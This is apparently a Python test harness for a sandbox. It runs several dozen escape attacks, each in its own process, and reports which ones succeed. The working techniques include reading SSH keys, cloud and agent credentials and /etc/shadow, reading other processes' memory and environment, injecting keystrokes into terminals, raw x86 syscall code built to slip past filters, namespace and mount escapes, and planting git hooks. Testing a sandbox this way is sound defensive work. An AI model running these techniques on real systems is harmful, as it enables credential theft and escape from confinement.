"""A hostile program: it tries to get out of the sandbox that it runs in, and prints what it achieved, as JSON.

Run as `python -I -S sandbox_attacker.py`, with the `Target` (below) as JSON in the variable TARGET. Each attack runs in
a process of its own. It returns normally if it achieved its end; where it cannot be tried at all (it needs root, a
kernel without keys), it raises `CannotTry`. The result maps each attack to "succeeded", "cannot: …" or "failed: …".

It runs alone, outside of the sandbox as well, to prove that each attack works there.
"""

from __future__ import annotations

import ctypes
import fcntl
import glob
import json
import os
import platform
import signal
import socket
import stat
import struct
import sys
import threading
from typing import Any

T: dict[str, Any] = json.loads(os.environ.get("TARGET", "{}"))
"""The target: home, outside (a folder), workspace, tree (a linked work tree), repository (its own), dragoman_home, pid
(of a victim), secret, tcp, tcp6, udp (ports), unix, bus (paths), abstract (a name), shm (a file), segment (an id of
System V), key (a name), terminal (a path), device (its numbers), setuid (a program), namespaces (whether
this user can make some)."""

X86 = platform.machine() == "x86_64"
TIMEOUT_S = 30

libc = ctypes.CDLL(None, use_errno=True)


class CannotTry(Exception):
    pass


def check(result: int) -> int:
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def number(x86: int, arm: int) -> int:
    return x86 if X86 else arm


def needs_root() -> None:
    if os.geteuid() != 0:
        raise CannotTry("needs root")


def holds(text: bytes | str) -> None:
    """Succeed where the text has the secret in it."""
    text = text if isinstance(text, bytes) else text.encode()
    if T["secret"].encode() not in text:
        raise ValueError("the secret is not there")


def read(path: str) -> None:
    with open(path, "rb") as file:
        holds(file.read())


def overwrite(path: str) -> None:
    before = os.stat(path)
    with open(path, "r+b") as file:
        file.write(b"#")
    if os.stat(path).st_ino != before.st_ino:
        raise ValueError("another file")


SSH_KEY = f"{T.get('home')}/.ssh/id_ed25519"
VICTIM = f"{T.get('outside')}/victim.txt"


# -- files


def write_in_home() -> None:
    with open(f"{T['home']}/planted", "x"):
        pass


def write_shell_profile() -> None:
    overwrite(f"{T['home']}/.bashrc")


def write_beside_the_workspace() -> None:
    with open(f"{T['outside']}/planted", "x"):
        pass


def overwrite_a_file_outside() -> None:
    overwrite(VICTIM)


def append_to_a_file_outside() -> None:
    with open(VICTIM, "ab") as file:
        file.write(b"#")


def truncate_a_file_outside() -> None:
    os.truncate(f"{T['outside']}/truncated.txt", 3)


def delete_a_file_outside() -> None:
    os.unlink(f"{T['outside']}/deleted.txt")


def rename_a_file_outside() -> None:
    os.rename(f"{T['outside']}/renamed.txt", f"{T['outside']}/renamed-2.txt")


def move_a_file_out_of_the_workspace() -> None:
    with open("carrier", "w"):
        pass
    os.rename("carrier", f"{T['outside']}/carrier")


def make_a_folder_outside() -> None:
    os.mkdir(f"{T['outside']}/folder")


def link_a_file_outside_into_the_workspace() -> None:
    os.link(VICTIM, "linked.txt")
    overwrite("linked.txt")


def write_through_a_symbolic_link() -> None:
    os.symlink(VICTIM, "symbolic.txt")
    overwrite("symbolic.txt")


def swap_a_symbolic_link_in() -> None:
    """Change a folder of the workspace into a link to one outside, while another thread writes to it."""
    os.mkdir("swapped")
    os.symlink(T["outside"], "link")
    is_over = threading.Event()

    def swap() -> None:
        exchange = 2
        while not is_over.is_set():
            libc.syscall(number(316, 276), -100, b"swapped", -100, b"link", exchange)

    thread = threading.Thread(target=swap)
    thread.start()
    try:
        for _ in range(10_000):
            try:
                with open("swapped/raced.txt", "w") as file:
                    file.write("x")
            except OSError:
                pass
            if os.path.exists(f"{T['outside']}/raced.txt"):
                break
    finally:
        is_over.set()
        thread.join()
    if not os.path.exists(f"{T['outside']}/raced.txt"):
        raise ValueError("it was always inside")


def write_our_home() -> None:
    overwrite(f"{T['dragoman_home']}/config.toml")


def read_our_home() -> None:
    read(f"{T['dragoman_home']}/secrets")


def read_the_ssh_key() -> None:
    read(SSH_KEY)


def list_the_ssh_folder() -> None:
    if "id_ed25519" not in os.listdir(f"{T['home']}/.ssh"):
        raise ValueError("not there")


def read_the_ssh_key_through_a_symbolic_link() -> None:
    os.symlink(SSH_KEY, "key")
    read("key")


def read_another_agents_login() -> None:
    read(f"{T['home']}/.codex/auth.json")


def read_a_cloud_login() -> None:
    read(f"{T['home']}/.aws/credentials")


def read_cargo_credentials() -> None:
    """Read a file that lies in a folder which is readable."""
    read(f"{T['home']}/.cargo/credentials.toml")


def read_another_project() -> None:
    read(f"{T['outside']}/.env")


def read_passwords_of_the_system() -> None:
    needs_root()
    with open("/etc/shadow", "rb") as file:
        if b"root:" not in file.read():
            raise ValueError("not there")


def read_by_a_handle() -> None:
    """Open a file by its number instead of its name."""
    needs_root()
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    check(libc.syscall(number(303, 264), -100, SSH_KEY.encode(), handle, ctypes.byref(mount), 0))
    folder = os.open(T["workspace"], os.O_RDONLY)
    with open(check(libc.syscall(number(304, 265), folder, handle, os.O_RDONLY)), "rb") as file:
        holds(file.read())


# -- /proc and other processes


def read_through_the_root_of_a_process() -> None:
    read(f"/proc/{T['pid']}/root{SSH_KEY}")


def read_through_the_folder_of_a_process() -> None:
    read(f"/proc/{T['pid']}/cwd/id_ed25519")


def read_through_an_open_file_of_a_process() -> None:
    read(f"/proc/{T['pid']}/fd/{T['fd']}")


def read_through_our_own_root() -> None:
    read(f"/proc/self/root{SSH_KEY}")


def read_through_our_own_folder() -> None:
    read(f"/proc/self/cwd/{os.path.relpath(SSH_KEY, os.getcwd())}")


def read_the_environment_of_a_process() -> None:
    read(f"/proc/{T['pid']}/environ")


def needs_tracing() -> None:
    """The victim lets everybody trace it, as far as the kernel asks it."""
    try:
        with open("/proc/sys/kernel/yama/ptrace_scope") as file:
            scope = int(file.read())
    except OSError:
        return
    if scope > 2 or (scope > 1 and os.geteuid() != 0):
        raise CannotTry("the kernel keeps users from tracing")


def read_the_memory_of_a_process() -> None:
    needs_tracing()
    with open(f"/proc/{T['pid']}/maps") as maps:
        heap = next(line for line in maps if "[heap]" in line).split("-")[0]
    with open(f"/proc/{T['pid']}/mem", "rb", buffering=0) as memory:
        memory.seek(int(heap, 16))
        if not memory.read(16):
            raise ValueError("nothing")


def copy_the_memory_of_a_process() -> None:
    needs_tracing()

    class Vector(ctypes.Structure):
        _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))

    buffer = ctypes.create_string_buffer(8)
    local = Vector(ctypes.addressof(buffer), 8)
    remote = Vector(T["address"], 8)
    one, none = ctypes.c_ulong(1), ctypes.c_ulong(0)
    check(libc.syscall(number(310, 270), T["pid"], ctypes.byref(local), one, ctypes.byref(remote), one, none))


def trace_a_process() -> None:
    needs_tracing()
    attach, detach = 16, 17
    check(libc.ptrace(attach, T["pid"], None, None))
    os.waitpid(T["pid"], 0)
    libc.ptrace(detach, T["pid"], None, None)


def take_an_open_file_of_a_process() -> None:
    needs_tracing()
    process = os.pidfd_open(T["pid"])
    taken = check(libc.syscall(438, process, T["fd"], 0))
    with open(taken, "rb") as file:
        holds(os.pread(file.fileno(), 1000, 0))


def signal_a_process() -> None:
    os.kill(T["pid"], signal.SIGURG)


def signal_a_process_by_a_descriptor() -> None:
    signal.pidfd_send_signal(os.pidfd_open(T["pid"]), signal.SIGURG)


def limit_a_process() -> None:
    import resource

    resource.prlimit(T["pid"], resource.RLIMIT_CORE, (0, 0))


# -- the network


def banner(connection: socket.socket) -> None:
    connection.settimeout(TIMEOUT_S / 2)
    holds(connection.recv(1000))


def connect_by_tcp() -> None:
    banner(socket.create_connection(("127.0.0.1", T["tcp"]), TIMEOUT_S / 2))


def connect_by_tcp_over_ipv6() -> None:
    if not T["tcp6"]:
        raise CannotTry("no IPv6 here")
    banner(socket.create_connection(("::1", T["tcp6"]), TIMEOUT_S / 2))


def connect_by_fast_open() -> None:
    """Connect and send with one call, which is not `connect`."""
    connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    connection.sendto(b"x", socket.MSG_FASTOPEN, ("127.0.0.1", T["tcp"]))
    banner(connection)


def connect_by_multipath_tcp() -> None:
    try:
        connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
    except OSError as error:
        if error.errno in (92, 93):  # not in this kernel
            raise CannotTry("no multipath TCP here") from None
        raise
    connection.connect(("127.0.0.1", T["tcp"]))
    banner(connection)


def ask_by_udp(connection: socket.socket) -> None:
    connection.settimeout(TIMEOUT_S / 2)
    connection.connect(("127.0.0.1", T["udp"]))  # so that it is told if nobody listens
    connection.send(b"x")
    holds(connection.recv(1000))


def send_by_udp() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        ask_by_udp(connection)


def listen_for_others() -> None:
    """Listen on a port where the world outside finds it: it asks for a connection by a file."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as listener:
        listener.settimeout(0.1)
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        with open("port.new", "w") as file:
            file.write(str(listener.getsockname()[1]))
        os.rename("port.new", "port")
        while not os.path.exists("refused"):
            try:
                connection, _ = listener.accept()
            except TimeoutError:
                continue
            return banner(connection)
    raise ValueError("nobody outside could connect")


def open_a_raw_socket() -> None:
    needs_root()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as connection:
        connection.settimeout(TIMEOUT_S / 2)
        connection.sendto(
            struct.pack("!BBHHH", 8, 0, 0xF7FF - os.getpid() % 1000, os.getpid() % 1000, 0), ("127.0.0.1", 0)
        )
        connection.recv(1000)


def listen_to_all_packets() -> None:
    needs_root()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as connection:
        connection.bind(("lo", 0))


def open_a_socket_to_the_host() -> None:
    """Open a socket between a virtual machine and its host, which no namespace holds back."""
    try:
        socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).close()
    except OSError as error:
        if error.errno == 97:
            raise CannotTry("not in this kernel") from None
        raise


def connect_to_a_unix_socket() -> None:
    connection = socket.socket(socket.AF_UNIX)
    connection.connect(T["unix"])
    banner(connection)


def connect_to_the_bus() -> None:
    """D-Bus of the desktop, where its address says."""
    connection = socket.socket(socket.AF_UNIX)
    connection.connect(T["bus"])
    banner(connection)


def connect_to_an_abstract_socket() -> None:
    connection = socket.socket(socket.AF_UNIX)
    connection.connect("\0" + T["abstract"])
    banner(connection)


def send_to_an_abstract_socket_of_datagrams() -> None:
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as connection:
        connection.sendto(b"x", "\0" + T["abstract"] + "-datagrams")


# -- privileges, mounts, devices


def new_namespaces(*flags: int) -> None:
    if not T["namespaces"]:
        raise CannotTry("this user cannot make namespaces")
    user, group = os.geteuid(), os.getegid()
    new_user = 0x1000_0000
    if libc.unshare(new_user | sum(flags)) != 0:
        raise OSError(ctypes.get_errno(), "unshare")
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {user} 1"), ("gid_map", f"0 {group} 1")):
        with open(f"/proc/self/{name}", "w") as file:
            file.write(text)


def mount_the_home_folder_in_the_workspace() -> None:
    new_mounts, bind = 0x0002_0000, 4096
    new_namespaces(new_mounts)
    os.mkdir("mounted")
    check(libc.mount(T["home"].encode(), b"mounted", None, bind | 16384, None))
    read("mounted/.ssh/id_ed25519")


def unmount_what_hides_it() -> None:
    """Take away mounts above the home folder, one after the other."""
    new_mounts = 0x0002_0000
    new_namespaces(new_mounts)
    for path in (f"{T['home']}/.ssh", T["home"], "/tmp"):
        for _ in range(3):
            libc.umount2(path.encode(), 2)
    read(SSH_KEY)


def change_the_root() -> None:
    new_namespaces()
    os.chroot(T["home"])
    os.chdir("/")
    read("/.ssh/id_ed25519")


def join_the_namespace_of_a_process() -> None:
    needs_root()
    with open(f"/proc/{T['pid']}/ns/mnt") as namespace:
        check(libc.setns(namespace.fileno(), 0))
    read(SSH_KEY)


def become_another_user() -> None:
    needs_root()
    os.setuid(65534)


def run_a_program_with_another_owners_rights() -> None:
    if not T.get("setuid"):
        raise CannotTry("needs root")
    reader, writer = os.pipe()
    if (child := os.fork()) == 0:
        os.dup2(writer, 1)
        os.execv(T["setuid"], ["id", "-u"])
    os.waitpid(child, 0)
    if int(os.read(reader, 100) or -1) != 65534:
        raise ValueError("it had our own")


def make_a_device() -> None:
    if not T["device"]:
        raise CannotTry("needs root, and a device that may be opened")
    os.mknod("device", stat.S_IFCHR | 0o600, os.makedev(*T["device"]))
    os.close(os.open("device", os.O_RDONLY))


def read_the_log_of_the_kernel() -> None:
    if not T["device"]:
        raise CannotTry("needs root, and a device that may be opened")
    os.close(os.open("/dev/kmsg", os.O_RDONLY))


def write_a_setting_of_the_kernel() -> None:
    needs_root()
    os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))


def write_a_control_group() -> None:
    needs_root()
    folders = glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)[:50]
    if not folders:
        raise CannotTry("no control groups here")
    for path in folders:
        try:
            os.close(os.open(path, os.O_WRONLY))
        except OSError:
            continue
        return
    raise ValueError("none can be opened")


def read_shared_memory() -> None:
    read(T["shm"])


def write_shared_memory() -> None:
    overwrite(T["shm"])


def attach_a_segment_of_shared_memory() -> None:
    libc.shmat.restype = ctypes.c_void_p
    address = libc.shmat(T["segment"], None, 0o10000)
    if address in (None, ctypes.c_void_p(-1).value):
        raise OSError(ctypes.get_errno(), "shmat")
    holds(ctypes.string_at(address, 200))


def read_a_key_of_the_kernel() -> None:
    if not T["key"]:
        raise CannotTry("the kernel has no keys")
    keyctl, search, read_it, user_keyring = number(250, 219), 10, 11, -4
    key = check(libc.syscall(keyctl, search, user_keyring, b"user", T["key"].encode(), 0))
    buffer = ctypes.create_string_buffer(200)
    check(libc.syscall(keyctl, read_it, key, buffer, 200))
    holds(buffer.raw)


def write_to_another_terminal() -> None:
    with open(T["terminal"], "w") as terminal:
        terminal.write("x")


def type_into_our_terminal() -> None:
    """Put characters into the input of a terminal, for whoever reads it next."""
    try:
        with open("/proc/sys/dev/tty/legacy_tiocsti") as file:
            is_off = file.read().strip() == "0"
    except OSError:
        is_off = False
    if is_off and os.geteuid() != 0:
        raise CannotTry("the kernel keeps users from it")
    os.setsid()
    terminal = os.open(T["terminal"], os.O_RDWR)  # it becomes ours, where it is nobody's
    fcntl.ioctl(terminal, 0x5412, b"x")


def call_the_kernel_as_a_32_bit_program() -> None:
    """Make a UDP socket by the calls of 32-bit programs, whose numbers a filter may not know."""
    if not X86:
        raise CannotTry("only on x86_64")
    import mmap

    # mov eax, 359 (socket); mov ebx, 2; mov ecx, 2; xor edx, edx; int 0x80; ret -- and keep rbx, which is ours to keep
    code = b"\x53\xb8\x67\x01\x00\x00\xbb\x02\x00\x00\x00\xb9\x02\x00\x00\x00\x31\xd2\xcd\x80\x5b\xc3"
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    descriptor = function()
    if descriptor < 0:
        raise OSError(-descriptor, os.strerror(-descriptor))
    with socket.socket(fileno=descriptor) as connection:
        ask_by_udp(connection)


# -- hooks and settings of git, which the user's git would run outside


def write_a_hook_of_git() -> None:
    with open(".git/hooks/pre-commit", "x"):
        pass


def change_the_settings_of_git() -> None:
    overwrite(".git/config")


def replace_the_settings_of_git() -> None:
    with open(".git/config.lock", "x"):
        pass
    os.rename(".git/config.lock", ".git/config")


def delete_the_settings_of_git() -> None:
    os.unlink(".git/config")
    with open(".git/config", "x"):
        pass


def link_the_settings_of_git() -> None:
    """Write to them by another name."""
    os.link(".git/config", "linked-config")
    overwrite("linked-config")


def replace_the_hooks_of_git() -> None:
    os.rename(".git/hooks", ".git/hooks-2")
    os.mkdir(".git/hooks")


def write_attributes_of_git() -> None:
    """Hide changes from the user's `git diff`."""
    with open(".git/info/attributes", "x"):
        pass


def replace_the_folder_of_git() -> None:
    os.rename(".git", ".git-2")
    try:
        os.mkdir(".git")
        os.rmdir(".git")
    finally:
        os.rename(".git-2", ".git")


def exchange_the_folder_of_git() -> None:
    os.mkdir("other-git")
    for _ in range(2):  # and back again
        check(libc.syscall(number(316, 276), -100, b".git", -100, b"other-git", 2))


def replace_the_folder_of_submodules() -> None:
    os.rename(".git/modules", ".git/modules-2")
    os.rename(".git/modules-2", ".git/modules")


def change_the_settings_of_a_submodule() -> None:
    overwrite(".git/modules/libs/one/config")


def uncover_the_settings_of_git() -> None:
    """Bind the workspace elsewhere, without the mounts in it."""
    new_mounts, bind = 0x0002_0000, 4096
    new_namespaces(new_mounts)
    os.mkdir("uncovered")
    check(libc.mount(T["workspace"].encode(), b"uncovered", None, bind, None))
    overwrite("uncovered/.git/config")


def unmount_the_settings_of_git() -> None:
    new_mounts = 0x0002_0000
    new_namespaces(new_mounts)
    for path in (".git/config", ".git"):
        libc.umount2(path.encode(), 2)
    overwrite(".git/config")


def open_the_settings_of_git_through_the_root_of_a_process() -> None:
    overwrite(f"/proc/{os.getppid()}/cwd/.git/config")


def replace_the_link_of_a_work_tree() -> None:
    with open(f"{T['tree']}/.git.new", "x"):
        pass
    before = os.stat(f"{T['tree']}/.git")
    os.rename(f"{T['tree']}/.git.new", f"{T['tree']}/.git")
    if os.stat(f"{T['tree']}/.git").st_ino == before.st_ino:
        raise ValueError("the same file")


def lead_a_work_tree_elsewhere() -> None:
    overwrite(f"{T['repository']}/worktrees/tree/commondir")


def change_the_settings_of_the_repository_of_a_work_tree() -> None:
    overwrite(f"{T['repository']}/config")


def write_a_hook_of_the_repository_of_a_work_tree() -> None:
    with open(f"{T['repository']}/hooks/post-checkout", "x"):
        pass


def change_the_head_of_the_repository_of_a_work_tree() -> None:
    overwrite(f"{T['repository']}/HEAD")


def lead_git_to_another_repository() -> None:
    with open(".git/commondir", "x"):
        pass
    os.unlink(".git/commondir")


# -- what Landlock is known not to cover


def change_the_mode_of_a_file_outside() -> None:
    os.chmod(VICTIM, 0o604)


def change_the_times_of_a_file_outside() -> None:
    os.utime(VICTIM, (1, 1))


def see_the_size_of_a_file_outside() -> None:
    if os.stat(SSH_KEY).st_size == 0:
        raise ValueError("empty")


def read_the_command_line_of_a_process() -> None:
    with open(f"/proc/{T['pid']}/cmdline", "rb") as file:
        if b"victim" not in file.read():
            raise ValueError("another process")


HELPERS = {
    *("check", "number", "needs_root", "holds", "read", "overwrite", "banner", "ask_by_udp", "new_namespaces"),
    *("needs_tracing", "main", "attempt"),
}


def attempt(attack: Any) -> str:
    """Run one attack in a process of its own."""
    reader, writer = os.pipe()
    if (child := os.fork()) == 0:
        signal.alarm(TIMEOUT_S)
        try:
            attack()
            text = "succeeded"
        except CannotTry as reason:
            text = f"cannot: {reason}"
        except BaseException as error:
            text = f"failed: {type(error).__name__}: {error}"
        os.write(writer, text.encode()[:1000])
        os._exit(0)
    os.close(writer)
    with open(reader, "rb") as result:
        text = result.read().decode()
    _, status = os.waitpid(child, 0)
    return text or f"failed: ended by {os.waitstatus_to_exitcode(status)}"


def main() -> None:
    attacks = {
        name: value
        for name, value in globals().items()
        if callable(value) and getattr(value, "__module__", "") == "__main__" and name not in HELPERS and name.islower()
    }
    wanted = sys.argv[1:] or list(attacks)
    print(json.dumps({name: attempt(attacks[name]) for name in wanted}))


if __name__ == "__main__":
    main()
